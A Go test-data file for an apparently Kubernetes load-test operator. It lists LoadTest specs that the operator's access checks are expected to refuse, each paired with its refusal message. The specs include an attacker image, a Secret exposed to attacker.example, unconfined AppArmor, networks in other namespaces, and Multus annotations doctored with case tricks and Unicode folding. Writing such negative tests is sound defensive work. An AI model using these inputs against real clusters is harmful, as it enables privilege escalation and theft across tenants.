package tries

// NeedingPods are settings and software of the author's own, which take the right to create pods. Spec is what
// a LoadTest has besides Links, and Says the field that the refusal names.
func NeedingPods() []Try {
	return []Try{
		{"a TRex of one's own", "generator: {engine: TRex, trex: {image: attacker/shell}}", "generator.trex"},
		{"generators where one likes", "generator: {engine: Software, pod: {priorityClassName: urgent, nodeSelector: {kubernetes.io/hostname: master}, labels: {app: shop}}}", "generator.pod"},
		{"the operator's reach to any server",
			"generator: {engine: TRex, placement: {servers: [{address: 'kubernetes.default:443'}]}}\ndut: {type: Device}",
			"generator.placement.servers"},
		{"a Secret of the namespace, shown to any server",
			"dut: {type: Device}\nobservers: [{name: power, observed: Lab, type: Redfish, redfish: {url: 'https://attacker.example', secretName: s}}]", "observers that ask over the network"},
		{"any server of the pods' network", "dut: {type: Device}\nobservers: [{name: up, observed: Lab, type: Prometheus, prometheus: {url: 'http://kubernetes.default', query: up, unit: W}}]", "observers that ask over the network"},
		{"a Secret of the namespace", "dut: {type: Pod, pod: {template: {spec: {containers: [{name: c, image: i, env: [{name: S, valueFrom: {secretKeyRef: {name: s, key: k}}}]}], volumes: [{name: v, secret: {secretName: s}}]}}}}", "dut.pod"},
		{"a device's program from any image",
			"dut: {type: Reference, reference: {mode: {userspace: {kind: Testpmd}}, image: attacker/shell}}",
			"dut.reference.image"},
		{"a pod before the test", "dut: {type: Reference, setup: {template: {spec: {containers: [{name: c, image: i}]}}}}", "dut.setup"},
		{"a pod after the test", "dut: {type: Reference, teardown: {template: {spec: {containers: [{name: c, image: i}]}}}}", "dut.teardown"},
	}
}

// SystemSettings are settings of pods that take the verb privileged. Spec is what a LoadTest has besides Links.
func SystemSettings() []Try {
	return []Try{
		{"the system's priority for generators",
			"generator: {engine: Software, pod: {priorityClassName: system-cluster-critical}}",
			"priorityClassName of the system"},
		{"another pod network for generators",
			"generator: {engine: Software, pod: {annotations: {v1.multus-cni.io/default-network: other/net}}}",
			"default-network"},
		{"another pod network for the device",
			inTemplate("{metadata: {annotations: {v1.multus-cni.io/default-network: other/net}}, spec: {containers: [{name: c, image: i}]}}"), "default-network"},
		{"no AppArmor by the old annotation",
			inTemplate("{metadata: {annotations: {container.apparmor.security.beta.kubernetes.io/c: unconfined}}, spec: {containers: [{name: c, image: i}]}}"), "appArmorProfile"},
	}
}

func inTemplate(template string) string {
	return "dut: {type: Pod, pod: {template: " + template + "}}\n"
}

// ForeignNetworks are links on networks of another namespace. Spec is the whole LoadTest's.
func ForeignNetworks(victim string) []Try {
	return []Try{
		{"another namespace's network for generators", "links: [{name: west, network: " + victim +
			"/west, lineRate: 1gbps}, {name: east, network: east, lineRate: 1gbps}]\n", "network " + victim +
			"/west is in another namespace"},
		{"another namespace's network for the device",
			"links: [{name: west, network: west, lineRate: 1gbps}, {name: east, network: east, lineRate: 1gbps, dut: {network: " + victim + "/east}}]\n", "network " + victim + "/east is in another namespace"},
		{"another namespace's network for a tunnel's cable", Links +
			"dut: {type: Reference, reference: {mode: {tunnel: {kind: WireGuard, network: " + victim + "/cable}}}}\n",
			"network " + victim + "/cable is in another namespace"},
	}
}

// ForeignAnnotations are the same in a template's annotation, where the policy doesn't look and the operator
// does. Spec is the annotation's value.
func ForeignAnnotations(victim string) []Try {
	refusal := victim + "/west (in the annotation of a template)"
	return []Try{
		{"text", victim + "/west@mgmt", refusal},
		{"json", `[{"name": "west", "namespace": "` + victim + `", "interface": "mgmt"}]`, refusal},
	}
}

// DoctoredAnnotations are those of which the operator would look at one network, and Multus attach another: its
// decoder takes members in any case, and of two the last. They are refused as they are written.
func DoctoredAnnotations(namespace, victim string) []Try {
	const refusal = "it can't be read which networks it asks Multus for"
	return []Try{
		{"case", `[{"name": "west", "Namespace": "` + victim + `", "interface": "mgmt"}]`, refusal},
		{"both-cases", `[{"name": "west", "namespace": "` + victim + `", "Namespace": "` + namespace +
			`", "interface": "mgmt"}]`, refusal},
		{"twice", `[{"name": "west", "namespace": "` + victim + `", "namespace": "` + namespace +
			`", "interface": "mgmt"}]`, refusal},
		{"folded", `[{"name": "west", "nameſpace": "` + victim + `", "namespace": "` + namespace +
			`", "interface": "mgmt"}]`, refusal},
	}
}

// WithAnnotation is a LoadTest's spec, besides Links, with that annotation in the template of pod, setup or teardown.
func WithAnnotation(part, value string) string {
	kind := map[bool]string{true: "Pod", false: "Reference"}[part == "pod"]
	return "dut: {type: " + kind + ", " + part +
		": {template: {metadata: {annotations: {k8s.v1.cni.cncf.io/networks: '" + value +
		"'}}, spec: {containers: [{name: c, image: i}]}}}}\n"
}
